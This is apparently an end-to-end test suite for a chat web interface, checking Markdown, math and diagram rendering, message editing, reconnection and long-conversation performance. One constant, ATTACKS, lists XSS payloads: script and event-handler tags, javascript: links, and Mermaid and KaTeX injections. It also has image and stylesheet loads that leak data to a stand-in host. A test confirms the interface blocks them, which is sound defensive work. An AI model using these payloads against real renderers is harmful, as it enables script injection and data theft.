import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import {
  answerText,
  composer,
  faults,
  finished,
  lastAnswer,
  newContext,
  newTab,
  numbered,
  pairOnce,
  SHOTS,
  say,
  seed,
  startBrowser,
  startGateway,
  startModel,
} from './harness.mjs';

let model;
let browser;
let gateway;
let state;
/** A conversation of 5,000 messages. */
let session;
const TURNS = 2_500;
before(async () => {
  model = await startModel();
  browser = await startBrowser();
  gateway = await startGateway(model, {
    prepare: (home) => {
      session = seed(home, TURNS);
    },
  });
  state = await pairOnce(browser, gateway);
});
after(async () => {
  await browser?.close();
  await gateway?.stop();
  await model?.stop();
});

/** A tab on a new conversation, with everything that must not happen in it written down. */
async function newChat(options = {}) {
  const context = await newContext(browser, { state, ...options });
  const tab = await newTab(context, gateway);
  await tab.page.goto(`${gateway.url}/chat`);
  await composer(tab.page).waitFor();
  return tab;
}
const close = (page) => page.context().close();
/** So many messages are shown, if need be after a moment. */
const shows = (page, count) =>
  page.waitForFunction((wanted) => document.querySelectorAll('article.msg').length === wanted, count);
const question = (page, place) => page.getByRole('article', { name: 'You' }).nth(place);
const sessionOf = (page) => new URL(page.url()).pathname.split('/').at(-1);
/** Says something in a conversation by another door than this page. */
const sayByApi = async (page, session, message) => {
  const answer = await page.request.post(`${gateway.url}/api/chat`, {
    data: { message, session_id: session },
    headers: { origin: gateway.url },
  });
  assert.ok(answer.ok(), `${answer.status()} ${await answer.text()}`);
  return answer.json();
};

const ZOO = [
  '## What came out',
  'Some **bold**, some *slanted*, some ~~gone~~, `inline code` and a [link](https://example.org/notes). The energy is $E = mc^2$, and it costs $5 or $6.',
  '$$\\int_0^1 \\frac{x^2}{\\sqrt{1 + x}}\\,dx = \\sum_{n=0}^{\\infty} \\begin{pmatrix} a & b \\\\ c & d \\end{pmatrix}$$',
  '| case | before | after |\n|---|---:|:---:|\n| small | 1.2 µs | 0.7 µs |\n| large | 840 µs | 410 µs |',
  '```rust\nfn main() {\n    let answer: u32 = 42; // no copy\n    println!("{answer}");\n}\n```',
  '```mermaid\nflowchart LR\n  A[Message] --> B{Known?}\n  B -->|yes| C[Answer]\n  B -->|no| D[Ask]\n```',
  '```mermaid\nsequenceDiagram\n  Phone->>Gateway: pair\n  Gateway-->>Phone: token\n```',
  '> A quote over\n> two lines',
  '1. First\n2. Second\n   - inside\n   - of it',
  '- [x] read the notes\n- [ ] run the benchmark',
  'A claim[^why].',
  '![chart](https://pictures.example/chart.png)',
  '[^why]: Because it was *measured*.',
].join('\n\n');

const ATTACKS = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '<svg onload="window.pwned = 3"><circle/></svg>',
  '<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>',
  '[one](javascript:window.pwned=5) [two](JaVaScRiPt:window.pwned=6) [three](data:text/html,hi) [four](//evil.example)',
  '![a](https://evil.example/leak.png?q=secret) ![b](//evil.example/b.png) ![c](data:image/svg+xml;base64,PHN2Zy8+)',
  '<style>body{display:none}</style>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '$\\href{javascript:window.pwned=7}{x}$ and $\\includegraphics{https://evil.example/y.png}$',
  '```mermaid\nflowchart LR\n  A["<img src=x onerror=window.pwned=8>"] --> B\n  click A href "javascript:window.pwned=9"\n```',
  '```mermaid\n%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/z.css)"}}%%\nflowchart LR\n  A --> B\n```',
  'the end',
].join('\n\n');

describe('an answer', () => {
  for (const [width, height, scheme] of [
    [1440, 900, 'light'],
    [1440, 900, 'dark'],
    [360, 740, 'light'],
    [360, 740, 'dark'],
  ])
    it(`shows everything that Markdown can, and keeps to the policy: ${width} px, ${scheme}`, async () => {
      const { page, unexpected } = await newChat({ width, height, scheme });
      await say(page, `think:Where does the time go? say:${ZOO}`);
      await finished(page);
      const answer = lastAnswer(page);
      await answer.locator('.md-formula math').first().waitFor();
      await answer.locator('.md-formula-block math mfrac').first().waitFor();
      await answer.locator('.hljs-keyword').first().waitFor();
      await answer.locator('.diagram-picture img').nth(1).waitFor({ timeout: 20_000 });
      for (const picture of await answer.locator('.diagram-picture img').all())
        assert.ok(await picture.evaluate((image) => image.decode().then(() => image.naturalWidth > 50)));
      assert.match(await answer.innerText(), /it costs \$5 or \$6\./);
      await answer.getByText('Picture from pictures.example, not loaded').waitFor();
      // On a phone the tabs come back when the field is left.
      await composer(page).blur();
      const thought = answer.getByText(/^Thought/);
      await thought.evaluate((one) => one.scrollIntoView({ block: 'center' }));
      await page.waitForTimeout(400);
      await thought.click();
      await answer.getByText('Where does the time go?').waitFor();
      await page.waitForTimeout(200);
      await page.screenshot({ path: `${SHOTS}/thread-${width}-${scheme}-end.png` });
      const log = page.getByRole('log');
      for (const [part, share] of [
        ['top', 1],
        ['middle', 0.5],
      ]) {
        await log.evaluate((box, at) => {
          box.scrollTop = -(box.scrollHeight - box.clientHeight) * at;
        }, share);
        await page.waitForTimeout(200);
        await page.screenshot({ path: `${SHOTS}/thread-${width}-${scheme}-${part}.png` });
      }
      assert.deepEqual(await faults(page, 'thread'), []);
      assert.deepEqual(unexpected(), []);
      await close(page);
    });

  it('can run nothing and fetch nothing, whatever the model wrote', async () => {
    const { page, unexpected } = await newChat();
    await say(page, `delay:2 say:${ATTACKS}`);
    await finished(page);
    await page.waitForTimeout(1_500);
    for (const frame of page.frames()) assert.equal(await frame.evaluate('window.pwned'), undefined);
    const bad = '.md :is(script, iframe, style, link, object, form, [onerror], [onload])';
    assert.equal(await page.locator(bad).count(), 0);
    const links = await page.locator('.md a').evaluateAll((all) => all.map((a) => [a.protocol, a.rel]));
    for (const [protocol, rel] of links) {
      assert.match(protocol, /^https?:$/);
      assert.match(rel, /noopener/);
    }
    assert.deepEqual(unexpected(), [], 'nobody was asked for anything');
    await close(page);
  });

  it('shows the tools it used, with what they were asked and what they said', async () => {
    const { page, unexpected } = await newChat();
    await say(page, 'tool:read_notes {"path": "notes/today.md", "lines": 20}');
    await finished(page);
    const card = lastAnswer(page).locator('.tool');
    await card.getByText('read_notes', { exact: true }).waitFor();
    await card.getByText('notes/today.md').first().waitFor();
    assert.equal(await card.getAttribute('data-state'), 'failed');
    await card.getByText('Arguments').waitFor();
    await card.getByText('Output', { exact: true }).waitFor();
    assert.match(await lastAnswer(page).innerText(), /The tool said/);
    await page.screenshot({ path: `${SHOTS}/thread-tool.png` });
    assert.deepEqual(await faults(page, 'tool'), []);
    const shown = await card.innerText();
    await page.reload();
    await finished(page);
    await card.getByText('Arguments').waitFor();
    assert.equal(await card.innerText(), shown, 'what was stored says the same');
    assert.match(await lastAnswer(page).innerText(), /The tool said/);
    assert.deepEqual(unexpected(), []);
    await close(page);
  });

  it('names what failed, and is tried again in its own place', async () => {
    const { page } = await newChat();
    await say(page, 'status:400 times:1');
    await lastAnswer(page).getByText('PROVIDER_ERROR').waitFor();
    await page.screenshot({ path: `${SHOTS}/thread-failure.png` });
    await page.getByRole('button', { name: 'Try again' }).click();
    await lastAnswer(page).getByRole('group', { name: 'Version 2 of 2' }).waitFor();
    assert.equal(await page.getByRole('article').count(), 2);
    await close(page);
  });
});

describe('versions of a message', () => {
  it('are made by editing and by answering again, and shown in every tab', async () => {
    const { page, unexpected } = await newChat();
    await say(page, 'say:first answer');
    await finished(page);
    await say(page, 'say:what followed');
    await lastAnswer(page).getByText('what followed').waitFor();
    await finished(page);
    const other = await newTab(page.context(), gateway);
    await other.page.goto(page.url());
    await lastAnswer(other.page).getByText('what followed').waitFor();

    await question(page, 0).hover();
    await question(page, 0).getByRole('button', { name: 'Edit this message' }).click();
    const field = page.getByRole('textbox', { name: 'Edit the message' });
    assert.equal(await field.inputValue(), 'say:first answer');
    await field.fill('say:second answer');
    await page.keyboard.press('Control+Enter');
    for (const one of [page, other.page]) {
      await lastAnswer(one).getByText('second answer').waitFor();
      await lastAnswer(one).getByRole('group', { name: 'Version 2 of 2' }).waitFor();
      await shows(one, 2);
    }
    await page.screenshot({ path: `${SHOTS}/thread-versions.png` });
    await other.page.getByRole('button', { name: 'Earlier version' }).click();
    for (const one of [page, other.page]) {
      await one.getByText('what followed').last().waitFor();
      await shows(one, 4);
      await one.getByRole('group', { name: 'Version 1 of 2' }).waitFor();
    }
    await page.getByRole('button', { name: 'Answer again' }).last().click();
    await page.getByRole('menuitem', { name: 'With the same model' }).click();
    for (const one of [page, other.page]) {
      await lastAnswer(one).getByRole('group', { name: 'Version 2 of 2' }).waitFor();
      await lastAnswer(one).getByText('what followed').waitFor();
      await shows(one, 4);
    }
    await page.reload();
    await finished(page);
    assert.equal(await page.getByRole('article').count(), 4);
    assert.deepEqual([...unexpected(), ...other.unexpected()], []);
    await close(page);
  });

  it('wait for the answer under way', async () => {
    const { page } = await newChat();
    await say(page, 'say:one');
    await finished(page);
    await say(page, 'hold:versions say:two three');
    await lastAnswer(page).getByText('two').waitFor();
    const again = page
      .getByRole('article', { name: 'Agent' })
      .first()
      .getByRole('button', { name: 'Answer again' });
    assert.equal(await again.getAttribute('aria-disabled'), 'true');
    await model.release('versions');
    await finished(page);
    await close(page);
  });

  it('an edit is put down again with Esc, and does not stop or send anything', async () => {
    const { page } = await newChat();
    await say(page, 'say:kept');
    await finished(page);
    await question(page, 0).hover();
    await question(page, 0).getByRole('button', { name: 'Edit this message' }).click();
    await page.keyboard.type(' and more');
    await page.keyboard.press('Escape');
    await question(page, 0).getByText('say:kept', { exact: true }).waitFor();
    assert.equal(await page.getByRole('article').count(), 2);
    await close(page);
  });
});

describe('a conversation', () => {
  it('shows at once what came in by another door, and names the door', async () => {
    const { page, unexpected } = await newChat();
    await say(page, 'say:hello');
    await finished(page);
    await sayByApi(page, sessionOf(page), 'say:from outside');
    await lastAnswer(page).getByText('from outside').waitFor();
    await page.screenshot({ path: `${SHOTS}/thread-outside.png` });
    await question(page, 1).getByText('API', { exact: true }).waitFor();
    await page.reload();
    await question(page, 1).getByText('API', { exact: true }).waitFor();
    assert.equal(await page.getByRole('article').count(), 4);
    assert.deepEqual(unexpected(), []);
    await close(page);
  });

  it('loses and doubles nothing when the connection is cut in mid-answer, again and again', async () => {
    const context = await newContext(browser, { state });
    const { page } = await newTab(context, gateway);
    const sockets = [];
    await page.routeWebSocket(/\/ws\/chat/, (socket) => {
      socket.connectToServer();
      sockets.push(socket);
    });
    await page.goto(`${gateway.url}/chat`);
    await composer(page).waitFor();
    await say(page, `delay:12 say:${numbered(300)}`);
    for (const word of ['w20', 'w90', 'w180']) {
      await lastAnswer(page).getByText(word, { exact: false }).waitFor();
      await sockets.at(-1).close({ code: 1012, reason: 'cut' });
    }
    await finished(page);
    assert.ok(sockets.length >= 3, `${sockets.length} connections`);
    assert.equal(await answerText(page), numbered(300));
    assert.equal(await page.getByRole('article').count(), 2);
    await close(page);
  });

  it('copies a message and all of it as Markdown', async () => {
    const { page } = await newChat();
    await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
    await say(page, 'say:Some **bold** words');
    await finished(page);
    const clipboard = () => page.evaluate(() => navigator.clipboard.readText());
    await lastAnswer(page).getByRole('button', { name: 'Copy answer' }).click();
    assert.equal(await clipboard(), 'Some **bold** words');
    await page.getByRole('button', { name: 'More about this conversation' }).click();
    await page.getByRole('menuitem', { name: 'Copy conversation as Markdown' }).click();
    await page.getByText('The conversation was copied.').waitFor();
    assert.match(
      await clipboard(),
      /^# say:Some .*\n\n\*\*You\*\*\n\nsay:Some \*\*bold\*\* words\n\n\*\*scripted\*\*\n\nSome/,
    );
    await close(page);
  });

  it('shows pictures and files that went with a message', async () => {
    const { page, unexpected } = await newChat();
    await say(page, 'say:hello');
    await finished(page);
    const dot =
      'iVBORw0KGgoAAAANSUhEUgAAAAoAAAAKCAIAAAACUFjqAAAAEklEQVR4nGP4z8CAB+GTG8HSALfKY52fTcuYAAAAAElFTkSuQmCC';
    const answer = await page.request.post(`${gateway.url}/api/chat`, {
      headers: { origin: gateway.url },
      data: {
        message: 'say:seen',
        session_id: sessionOf(page),
        attachments: [
          { name: 'dot.png', media_type: 'image/png', data: dot },
          { name: 'notes.txt', media_type: 'text/plain', data: Buffer.from('some notes').toString('base64') },
        ],
      },
    });
    assert.ok(answer.ok(), await answer.text());
    await question(page, 1).getByRole('button', { name: 'Show dot.png' }).click();
    const picture = page.getByRole('dialog').getByRole('img', { name: 'dot.png' });
    await picture.waitFor();
    assert.ok(await picture.evaluate((image) => image.decode().then(() => image.naturalWidth === 10)));
    await page.waitForTimeout(200);
    assert.deepEqual(await faults(page, 'lightbox'), []);
    await page.keyboard.press('Escape');
    await question(page, 1)
      .getByRole('link', { name: /Open notes.txt/ })
      .waitFor();
    await page.screenshot({ path: `${SHOTS}/thread-files.png` });
    assert.deepEqual(unexpected(), []);
    await close(page);
  });

  it('streams 40 KB of Markdown with no task over 120 ms', async () => {
    const { page } = await newChat();
    const part =
      'Some **bold** words and `code` in a paragraph that is about as long as paragraphs are, with a [link](https://example.org) in it.\n\n- one\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n```js\nconst a = 1;\n```\n\n';
    const text = part.repeat(Math.ceil(40_000 / part.length));
    await say(page, 'say:warm **up** ```js\nconst a = 1\n```');
    await finished(page);
    await page.evaluate(() => {
      globalThis.long = [];
      new PerformanceObserver((list) => {
        for (const entry of list.getEntries()) globalThis.long.push(Math.round(entry.duration));
      }).observe({ type: 'longtask' });
    });
    await browser.startTracing(page, { categories: ['toplevel', 'devtools.timeline'] });
    // As from another door: the words for the model are none of the composer's business here.
    const sent = page.request.post(`${gateway.url}/api/message`, {
      data: { message: `delay:1 say:${text}`, session_id: sessionOf(page) },
      headers: { origin: gateway.url },
      timeout: 120_000,
    });
    await page.getByRole('article').nth(3).waitFor();
    const end = lastAnswer(page).getByRole('button', { name: 'Copy answer' });
    await end.waitFor({ timeout: 120_000 });
    await sent;
    assert.equal(await page.getByRole('article').count(), 4);
    await page.waitForTimeout(300);
    const long = Math.max(0, ...(await page.evaluate(() => globalThis.long)));
    const { traceEvents } = JSON.parse((await browser.stopTracing()).toString());
    const main = new Set(
      traceEvents
        .filter((one) => one.name === 'thread_name' && one.args.name === 'CrRendererMain')
        .map((one) => `${one.pid} ${one.tid}`),
    );
    const tasks = traceEvents.filter(
      (one) => one.name.endsWith('RunTask') && main.has(`${one.pid} ${one.tid}`),
    );
    assert.ok(tasks.length > 100, 'the tasks were traced');
    const busy = Math.round(Math.max(...tasks.map((one) => one.tdur ?? one.dur ?? 0)) / 1_000);
    console.log(`longest task: ${long} ms by the clock, ${busy} ms of work`);
    // On a machine that others use too the clock says more about them than about the page.
    assert.ok(Math.min(long, busy) <= 120, `${long} ms by the clock, ${busy} ms of work`);
    await close(page);
  });
});

describe('a conversation of 5,000 messages', () => {
  const open = async (address = `/chat/${session}`) => {
    const context = await newContext(browser, { state });
    const tab = await newTab(context, gateway);
    const begun = Date.now();
    await tab.page.goto(gateway.url + address);
    await tab.page.getByRole('article').first().waitFor();
    return { ...tab, took: Date.now() - begun };
  };

  it('opens as fast as a short one, with little of it on the page', async () => {
    const short = await newChat();
    await say(short.page, 'say:short');
    await finished(short.page);
    const address = new URL(short.page.url()).pathname;
    await close(short.page);
    const least = await open(address);
    await close(least.page);
    const { page, took, unexpected } = await open();
    await page
      .getByText(`Answer ${TURNS - 1} with`)
      .last()
      .waitFor();
    console.log(`opened in ${took} ms, a short one in ${least.took} ms`);
    assert.ok(took < Math.max(2_000, least.took * 2), `${took} ms`);
    assert.ok((await page.getByRole('article').count()) <= 40);
    assert.deepEqual(unexpected(), []);
    await close(page);
  });

  it('reads on while one scrolls back, and what is read stays where it is', async () => {
    const { page } = await open();
    const log = page.getByRole('log');
    const count = () => page.getByRole('article').count();
    // Older messages are held back until it is known what is being read.
    let letGo;
    const held = new Promise((go) => {
      letGo = go;
    });
    await page.route(
      (url) => url.pathname.endsWith('/messages') && url.searchParams.has('cursor'),
      async (route) => {
        await held;
        await route.continue();
      },
    );
    const frames = (number) =>
      page.evaluate(async (wanted) => {
        for (let frame = 0; frame < wanted; frame++) await new Promise(requestAnimationFrame);
      }, number);
    // Heights of what was never on the screen are guesses: what is read is where it is once they are known.
    await log.evaluate((box) => {
      box.scrollTop = -(box.scrollHeight - box.clientHeight) + 700;
    });
    await frames(5);
    const first = await count();
    const mark = await log.evaluateHandle((box) =>
      [...box.querySelectorAll('.msg')].find(
        (one) => one.getBoundingClientRect().top > box.getBoundingClientRect().top + 60,
      ),
    );
    const place = () => mark.evaluate((one) => Math.round(one.getBoundingClientRect().top));
    const at = await place();
    letGo();
    await page.waitForFunction((shown) => document.querySelectorAll('article.msg').length > shown, first);
    await frames(20);
    assert.ok(Math.abs((await place()) - at) <= 3, `moved from ${at} to ${await place()}`);
    await close(page);
  });

  it('finds words from its very beginning, and goes there by a link', async () => {
    const { page, unexpected } = await open();
    await page.getByRole('button', { name: 'Find in this conversation' }).click();
    await page.getByRole('textbox', { name: 'Find in this conversation' }).fill('about herons');
    await page.getByText('1 of 1').waitFor({ timeout: 30_000 });
    assert.equal(await page.getByRole('article').count(), 2 * TURNS);
    await page.screenshot({ path: `${SHOTS}/thread-find.png` });
    const first = page.getByRole('article', { name: 'Agent' }).first();
    await first.evaluate((one) => one.scrollIntoView());
    const turn = await first.getAttribute('data-turn');
    assert.deepEqual(unexpected(), []);
    await close(page);

    const linked = await open(`/chat/${session}?turn=${turn}`);
    const target = linked.page.getByText('Answer 0, the very first').last();
    await target.waitFor({ timeout: 30_000 });
    await linked.page.waitForFunction(() => !location.search.includes('turn='));
    await linked.page.waitForTimeout(300);
    const inView = await target.evaluate((node) => {
      const { top } = node.getBoundingClientRect();
      return top > 0 && top < innerHeight;
    });
    assert.ok(inView, 'the message that was linked is on the screen');
    await close(linked.page);
  });
});
